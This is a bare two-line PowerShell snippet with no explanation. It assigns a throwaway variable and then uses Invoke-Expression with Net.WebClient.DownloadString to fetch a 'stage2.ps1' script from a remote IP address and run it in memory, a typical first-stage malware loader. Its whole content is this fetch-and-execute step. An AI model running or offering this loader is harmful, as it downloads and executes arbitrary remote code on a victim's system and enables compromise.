$u = 'x'
IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage2.ps1')
